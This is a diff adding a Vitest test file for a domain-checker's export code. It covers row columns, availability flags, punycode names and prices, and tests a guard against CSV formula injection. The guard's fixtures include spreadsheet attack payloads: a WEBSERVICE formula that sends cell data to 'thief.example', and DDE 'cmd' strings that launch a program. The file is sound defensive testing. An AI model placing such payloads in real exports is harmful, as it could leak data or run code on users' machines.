@@ -1,0 +1,112 @@
+import { describe, expect, it } from 'vitest';
+import type { Finding, Price } from '#shared/domain/finding.ts';
+import { exportColumns, exportRow, formulaSafe } from '../../../../../electron/main/export/formats.ts';
+
+describe('a finding as a row', () => {
+  const aFinding = (changes: Partial<Finding> = {}): Finding => ({
+    domain: 'example.com',
+    tld: 'com',
+    kind: 'available',
+    cause: null,
+    message: '',
+    checkedAt: '2026-02-21T14:00:00.000Z',
+    prices: [],
+    ...changes,
+  });
+
+  const given = (amount: string, currency: string | null = null): Price => ({
+    kind: 'given',
+    amount,
+    currency,
+  });
+  const notGiven: Price = { kind: 'not-given' };
+  const priced = (register: Price, renew: Price): Pick<Finding, 'prices'> => ({
+    prices: [
+      { period: 1, register, transfer: notGiven, renew },
+      { period: 2, register: given('99'), transfer: notGiven, renew: given('99') },
+    ],
+  });
+
+  it('has the columns of the product in their order', () => {
+    expect(exportColumns.join(',')).toBe(
+      'domain,name,tld,finding,available,premium,reserved,valid,price_register,price_renew,currency,message,checked_at',
+    );
+    expect(Object.keys(exportRow(aFinding()))).toEqual([...exportColumns]);
+  });
+
+  it.each([
+    ['available', true, false, false, true],
+    ['premium', true, true, false, true],
+    ['taken', false, null, false, true],
+    ['reserved', false, null, true, true],
+    ['invalid', false, null, null, false],
+    ['unknown', null, null, null, null],
+    ['unchecked', null, null, null, null],
+  ] as const)(
+    'C17 says of a %s name what is known, and nothing more',
+    (kind, available, premium, reserved, valid) => {
+      expect(exportRow(aFinding({ kind }))).toMatchObject({
+        finding: kind,
+        available,
+        premium,
+        reserved,
+        valid,
+      });
+    },
+  );
+
+  it.each([
+    ['a name in Latin letters', 'example.com', 'com', 'example'],
+    ['an international name (RFC 3492)', 'xn--bcher-kva.com', 'com', 'bücher'],
+    ['a TLD of two labels', 'example.co.uk', 'co.uk', 'example'],
+    ['an international TLD', 'xn--e1afmkfd.xn--p1ai', 'xn--p1ai', 'пример'],
+  ])('has the label as people read it: %s', (_case, domain, tld, name) => {
+    expect(exportRow(aFinding({ domain, tld }))).toMatchObject({ domain, name, tld });
+  });
+
+  it.each([
+    ['given', priced(given('12.50', 'EUR'), given('14.90', 'EUR')), '12.50', '14.90', 'EUR'],
+    ['given without a currency', priced(given('12.50'), given('14.90')), '12.50', '14.90', null],
+    ['given for renewal alone', priced(notGiven, given('14.90', 'USD')), null, '14.90', 'USD'],
+    ['not given', priced(notGiven, notGiven), null, null, null],
+    ['unreadable', priced({ kind: 'unreadable' }, notGiven), null, null, null],
+    ['zero, which is not "not given"', priced(given('0'), notGiven), '0', null, null],
+    ['of no period', { prices: [] }, null, null, null],
+  ] as const)(
+    'has the price of the shortest period: %s',
+    (_case, prices, price_register, price_renew, currency) => {
+      expect(exportRow(aFinding(prices))).toMatchObject({ price_register, price_renew, currency });
+    },
+  );
+});
+
+describe('text that a spreadsheet would run', () => {
+  // OWASP, "CSV Injection": the characters with which a cell must not begin, and its examples.
+  it.each([
+    ['equals', '=1+1'],
+    ['plus', '+1+1'],
+    ['minus', '-1+1'],
+    ['at', '@SUM(1+1)'],
+    ['a tab', '\t=1+1'],
+    ['a carriage return', '\r=1+1'],
+    ['a line feed', '\n=1+1'],
+    ['a full-width equals', '＝1+1'],
+    ['a full-width plus', '＋1'],
+    ['a full-width minus', '－1'],
+    ['a full-width at', '＠SUM(1)'],
+    ['a way out with the network', '=WEBSERVICE("https://thief.example/?"&A1)'],
+    ['a way to a program', "=cmd|' /C calc'!A0"],
+    ['a way to a program behind a minus', "-2+3+cmd|' /C calc'!A0"],
+    ['white space, which some programs cut off', '  =1+1'],
+    ['a no-break space', '\u00a0=1+1'],
+  ])('gets an apostrophe before it: %s', (_case, text) => expect(formulaSafe(text)).toBe(`'${text}`));
+
+  it.each([
+    ['a name', 'example.com'],
+    ['a sign inside', 'a=b'],
+    ['a price', '12.50'],
+    ['an instant', '2026-02-21T14:00:00.000Z'],
+    ['nothing', ''],
+    ['white space before a word', ' registered'],
+  ])('is left as it is where it is none: %s', (_case, text) => expect(formulaSafe(text)).toBe(text));
+});
